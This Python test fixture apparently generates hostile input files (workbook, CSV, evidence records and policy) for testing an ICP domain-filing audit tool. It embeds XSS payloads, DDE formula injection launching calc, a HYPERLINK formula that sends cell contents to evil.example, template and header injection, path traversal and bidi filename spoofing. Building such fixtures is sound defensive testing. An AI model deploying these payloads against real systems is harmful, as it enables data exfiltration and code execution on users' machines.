"""A portfolio whose every name, cell, header, reply and setting was written by somebody who means harm."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from tests.bookwriters import columns_of, header
from tests.builders import credit_code, entity_number, id_number, mobile, service_number
from tests.intake.rawbooks import parts, worksheet

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "\"'><img src=x onerror=alert(2)></td></style></textarea></title>--><svg onload=alert(3)>"
END = "]]></script><script>alert(4)</script><!--"
LINK = "javascript:alert(5)//http://evil.example/"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
TERMINAL = "a\x1b[2J\x1b]0;title\x07\x9b31m\x08b\x00c\x7f"
BIDI = "公司\u202e\u2066gnp.exe\u2069\u200f"
BLANK = "示例\u200b\u200d\u00ad\ufeff\u2060公司\u3164"
LONG = "<b>" + "长" * 32_756 + "=1+1</b>"
TEXTS = (
    SCRIPT, BREAKOUT, END, LINK, HYPERLINK, DDE, "=1+1", "+1+1", "-1+1", "\t=1+1", "\r=1+1", "＝1+1", TERMINAL, BIDI, BLANK, LONG,
    "{{ 7*7 }}{% for x in y %}{{ config }}", "${7*7}#{7*7}", "%s%n%d", "{0}{name}{", "}", "a,b;c\t\"d\"\r\ne\nf'g|h", "_x0041__x0000_",
    "&lt;script&gt;&#x3c;", "\u2028\u2029\x85\ufffe\uffff", "data:text/html,<script>alert(6)</script>", "../../../../tmp/evil", "|", "\\",
    "BEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT", "Bcc: evil@example.org\r\nSubject: evil",
)  # fmt: skip
# No name of a file can hold a slash or NUL, and none may be longer than 255 octets.
FILE = "账\x1b[31m\n\u202e<img src=x onerror=alert(7)>\"'=1+1{{7*7}}%s{0}]]>&.xlsx"
# Nor can the name of a sheet hold one of []:*?/\ or more than 31 characters.
SHEETS = ("=1+1<img src=x onerror=a(8)>", "材料\u202e\"'&{{7+7}}%s!$A$1", "@注册商<script>,;=2")
_WORK = 40  # a few whole texts suffice where every one of them would make its own finding
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]|_x[0-9A-Fa-f]{4}_")


@dataclass(frozen=True)
class Inputs:
    """The files of the portfolio."""

    books: tuple[Path, ...]
    evidence: Path
    policy: Path


def write_inputs(folder: Path, *, calm: bool = False) -> Inputs:
    """The portfolio in a folder. calm: the same facts as they were before, so that changes hold hostile text too."""
    folder.mkdir(parents=True, exist_ok=True)
    book = folder / FILE
    _write_book(book)
    second = folder / "=cmd|' !A1,\x1b[0m<b>.csv"
    second.write_bytes(_csv_bytes())
    evidence = folder / "<i>evidence\x1b[7m.jsonl"
    lines = [
        json.dumps(one) for one in _evidence(calm)
    ]  # escapes what is not ASCII: lone surrogates go through
    broken = [json.dumps({"domain": text, "source": text, "server": text}) for text in TEXTS[:_WORK]]
    evidence.write_text("\n".join([*lines, *broken, SCRIPT + "\x1b[2J"]) + "\n", encoding="utf-8")
    policy = folder / "audit.toml"
    policy.write_text(_policy(), encoding="utf-8")
    return Inputs((book, second), evidence, policy)


def _filings() -> Iterator[dict[str, str]]:
    for n, text in enumerate(TEXTS, 1):
        plain = {
            "entity_number": entity_number(n),
            "entity_certificate_number": credit_code(n),
            "service_number": service_number(n),
            "domain": f"h{n}.cn",
            "leader_id_type": "身份证",
            "leader_id_number": id_number(n),
            "leader_mobile": mobile(13_800_000 + n),
            "domain_expiry": "2026-12-01",
        }
        hostile = dict.fromkeys(
            ("entity_name", "service_name", "access_provider", "registrant", "leader_name", "leader_email", "remark", "province",
             "legal_representative", "shareholders", "filed_ip", "police_number", "home_url", "group", "pre_approval", "filing_status"),
            text,
        )  # fmt: skip
        yield {**plain, **hostile}
        # The same text where a number, a name in the system or a day is wanted: these rows are wrong or refused.
        yield {**plain, "domain": text, "entity_name": text}
        yield {**plain, "domain": f"n{n}.cn", "service_number": text, "entity_name": "示例有限公司"}
        yield {
            **plain,
            "domain": f"m{n}.cn",
            "domain_expiry": text,
            "leader_mobile": text,
            "leader_id_number": text,
        }


def _documents() -> Iterator[dict[str, str]]:
    for n, text in enumerate(TEXTS, 1):
        yield {
            "entity_number": entity_number(n),
            "document_type": "营业执照" if n % 2 else text,
            "document_holder": text,
            "document_number": text,
            "document_expiry": "2026-10-01" if n % 3 else text,
            "document_file": text,
        }


def _registrar() -> Iterator[dict[str, str]]:
    for n, text in enumerate(TEXTS, 1):
        yield {
            "domain": f"m{n}.cn",
            "registrant": text,
            "real_name_status": text,
            "registrar": text,
            "domain_status": text,
            "domain_expiry": "2026-12-01",
        }


def _rows(rows: Sequence[dict[str, str]], strange: Sequence[str]) -> list[list[str]]:
    codes = columns_of(rows)
    table = [[header(code) for code in codes] + list(strange)]
    # A row that repeats its headings would be taken for the header once more.
    turned = [*strange[1:], *strange[:1]]
    return table + [[row.get(code, "") for code in codes] + turned for row in rows]


def _write_book(path: Path) -> None:
    strange = [text for text in TEXTS if text is not LONG][:20]
    tables = [
        _rows(list(_filings()), strange),
        _rows(list(_documents()), ()),
        _rows(list(_registrar()), ()),
    ]
    members = parts(*(worksheet("".join(map(_row, table))) for table in tables))
    listed = members["xl/workbook.xml"]
    assert isinstance(listed, str)
    for number, name in enumerate(SHEETS, 1):
        listed = listed.replace(f'name="表{number}"', f"name={quoteattr(name)}")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in {**members, "xl/workbook.xml": listed}.items():
            package.writestr(zipfile.ZipInfo(name), content)


def _row(cells: Sequence[str]) -> str:
    return "<row>" + "".join(map(_cell, cells)) + "</row>"


def _cell(text: str) -> str:
    """A cell of text; what XML cannot hold is escaped as workbooks do (ECMA-376, 22.9.2.19)."""
    shown = _CONTROL.sub(lambda found: "".join(f"_x{ord(sign):04X}_" for sign in found.group()), text)
    shown = escape(shown, {"\r": "_x000D_"})
    return f'<c t="inlineStr"><is><t xml:space="preserve">{shown}</t></is></c>' if shown else "<c/>"


def _csv_bytes() -> bytes:
    lines = ["域名,主办单位,主体备案号,服务备案号,备注"]
    for n, text in enumerate(TEXTS, 1):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(f"c{n}.cn,{quoted},{entity_number(500 + n)},{service_number(500 + n)},{quoted}")
    return "\n".join(lines).encode("utf-8")


def _evidence(calm: bool) -> Iterator[dict[str, Any]]:
    day = "2026-11-15" if calm else "2026-11-20"
    for n, text in enumerate((*TEXTS, "lone \ud800 half \udfff"), 1):
        said = "示例有限公司" if calm else text
        line = " ".join(said.split("\n"))
        base = {"domain": f"h{n}.cn", "fetched_at": f"{day}T09:00:00+08:00", "outcome": "answered"}
        raw = (
            f"Domain Name: h{n}.cn\r\nROID: 20200630s10001s00000001-cn\r\nDomain Status: {line}\r\nRegistrant: {line}\r\n"
            f"Sponsoring Registrar: {line}\r\nName Server: {line}\r\nRegistration Time: 2020-06-30 10:00:00\r\n"
            "Expiration Time: 2026-12-01 10:00:00\r\nDNSSEC: unsigned\r\n"
        )
        yield {**base, "source": "whois", "server": said, "raw": raw}
        page = f"<html><title>{said}</title><body>{said}<a href='{said}'>京ICP备{said}号</a></body></html>"
        yield {**base, "source": "web", "server": said, "raw": {"url": said, "status": 200, "html": page}}
        addresses = {"rcode": "NOERROR", "A": ["198.51.100.7"], "NS": [said], "CNAME": [said]}
        yield {**base, "source": "dns", "server": said, "raw": {f"h{n}.cn": addresses, said: addresses}}
        licence = {
            "domain": f"h{n}.cn",
            "mainLicence": said,
            "serviceLicence": said,
            "unitName": said,
            "natureName": said,
        }
        yield {**base, "source": "miit", "server": said, "raw": {**licence, "limitAccess": "否", said: said}}
        yield {**base, "domain": f"n{n}.cn", "source": "rdap", "server": said, "raw": {said: [said]}}
        yield {
            **base,
            "domain": f"m{n}.cn",
            "source": "whois",
            "server": said,
            "outcome": "error",
            "raw": said,
        }


def _policy() -> str:
    """Names in quotes as JSON writes them, which TOML reads the same."""

    def quoted(text: str) -> str:
        return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")

    usable = [text for text in TEXTS if text not in (LONG,)]
    lines = [
        "[aliases]",
        *(f"{quoted(one)} = [{quoted(two)}]" for one, two in pairwise(usable)),
    ]
    lines += ["[access.evil]", f"names = [{', '.join(map(quoted, usable))}]", 'ranges = ["203.0.113.0/24"]']
    return "\n".join(lines) + "\n"
